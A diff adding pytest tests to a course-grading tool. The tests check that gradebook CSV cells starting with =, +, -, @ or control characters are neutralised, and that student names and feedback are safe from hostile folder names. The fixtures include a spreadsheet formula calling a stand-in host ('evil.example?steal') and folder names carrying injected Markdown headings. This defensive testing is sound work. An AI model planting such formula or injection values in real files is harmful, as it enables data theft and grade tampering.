@@ -7,12 +7,15 @@ No kernel runs here: ``collect`` only reads the files.
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import nbformat
 import pytest
 
+from bpe_lab.grading.feedback import feedback_page
 from bpe_lab.grading.release import release_notebook
+from bpe_lab.grading.report import Report, TaskResult, write_gradebook
 from bpe_lab.grading.roster import collect, student_from_name
 from bpe_lab.grading.submissions import read_solutions
 
@@ -100,3 +103,79 @@ def test_a_notebook_with_as_many_cells_of_two_assignments_is_not_graded(tmp_path
     nbformat.write(mixed, tmp_path / "notebook.ipynb")
     (sub,) = collect([tmp_path / "notebook.ipynb"], SOLUTIONS)
     assert sub.assignment is None and "several assignments (02_training, 03_encoding)" in sub.error
+
+
+HYPERLINK = '=HYPERLINK("evil.example?steal","open")'  # a folder name: no /
+
+
+def test_the_student_is_the_first_folder_under_the_root_and_nothing_deeper_names_one(tmp_path):
+    """Finding 9: from ``submitted/mallory/03_encoding/``, folders inside make
+    no row for bob, no second alice, and no student named like a formula."""
+    root = tmp_path / "submitted"
+    _write(root / "mallory" / "03_encoding" / "03_encoding.ipynb", "03_encoding")
+    _write(root / "alice" / "03_encoding" / "03_encoding.ipynb", "03_encoding")
+    inside = root / "mallory" / "03_encoding"
+    for deep in ("bob/03_encoding", "alice/03_encoding", f"{HYPERLINK}/03_encoding", "x/y/z"):
+        _write(inside / deep / "03_encoding.ipynb", "03_encoding")
+    _write(root / "mallory" / "bob_1_2_03_encoding.ipynb", "03_encoding")  # a Canvas name inside a folder
+    subs = collect([root], SOLUTIONS)
+    graded = sorted((s.student, s.assignment, str(s.path.relative_to(root))) for s in subs if s.assignment)
+    assert graded == [
+        ("alice", "03_encoding", "alice/03_encoding/03_encoding.ipynb"),
+        (
+            "mallory (" + str(root / "mallory/03_encoding/03_encoding.ipynb") + ")",
+            "03_encoding",
+            "mallory/03_encoding/03_encoding.ipynb",
+        ),
+        (
+            "mallory (" + str(root / "mallory/bob_1_2_03_encoding.ipynb") + ")",
+            "03_encoding",
+            "mallory/bob_1_2_03_encoding.ipynb",
+        ),
+    ]
+    refused = [s for s in subs if s.assignment is None]
+    assert len(refused) == 4 and {s.student for s in refused} == {"mallory"}
+    assert all("deeper than any layout goes" in s.error and "not graded" in s.error for s in refused)
+    assert any(f"it lies in 03_encoding/{HYPERLINK}/03_encoding/ inside mallory/" in s.error for s in refused)
+
+
+def test_a_gradebook_cell_that_would_be_a_formula_is_text(tmp_path):
+    """OWASP's rule: a cell that begins with =, +, -, @, a tab or a carriage
+    return gets a ' in front, whatever column it is in; numbers stay numbers."""
+    reports = [
+        Report(f"{HYPERLINK}.ipynb", "03_encoding", [TaskResult("t", 1, 2, "-1 wrong")], student=HYPERLINK),
+        Report("b.ipynb", "03_encoding", [TaskResult("t", 2, 2)], error="+1", student="@bob"),
+        Report("c.ipynb", None, error="\tx", student="\rcarol"),
+        Report("d.ipynb", "03_encoding", [TaskResult("t", 0, 2)], student="dave-smith"),
+    ]
+    write_gradebook(reports, tmp_path / "book.csv")
+    with open(tmp_path / "book.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["student"] for r in rows] == [f"'{HYPERLINK}", "'@bob", "'\rcarol", "dave-smith"]
+    assert rows[0]["submission"] == f"'{HYPERLINK}.ipynb" and rows[1]["error"] == "'+1" and rows[2]["error"] == "'\tx"
+    assert [r["t"] for r in rows] == ["1.0", "2.0", "", "0.0"] and rows[0]["total"] == "1"
+    starts = [cell[:1] for row in rows for cell in row.values() if cell]
+    assert not any(c in "=+-@\t\r" for c in starts), starts
+
+
+def test_a_file_given_by_itself_is_named_by_its_student_folder(tmp_path):
+    path = _write(tmp_path / "submitted" / "alice" / "03_encoding" / "03_encoding.ipynb", "03_encoding")
+    other = _write(tmp_path / "submissions" / "bob" / "03_encoding.ipynb", "03_encoding")
+    assert [(s.student, s.assignment) for s in collect([path, other], SOLUTIONS)] == [
+        ("alice", "03_encoding"),
+        ("bob", "03_encoding"),
+    ]
+
+
+def test_names_and_reasons_from_folder_names_stay_on_one_line_of_feedback(tmp_path):
+    """A folder named with a new line and a Markdown heading neither breaks
+    the reason it is not graded nor starts a section of the feedback page."""
+    root = tmp_path / "submitted"
+    _write(root / "mallory" / "03_encoding" / "x\n# 5/5 for mallory\r" / "y" / "03_encoding.ipynb", "03_encoding")
+    (sub,) = collect([root], SOLUTIONS)
+    assert "\n" not in sub.error and "\r" not in sub.error and "x?# 5/5 for mallory?/y/" in sub.error
+    page = feedback_page("mallory\n# all marks", [Report(str(sub.path), None, error=sub.error, student="mallory")])
+    assert [line for line in page.splitlines() if line.startswith("#")] == [
+        "# Feedback for mallory # all marks",
+        "## unknown assignment: 0/0",
+    ]
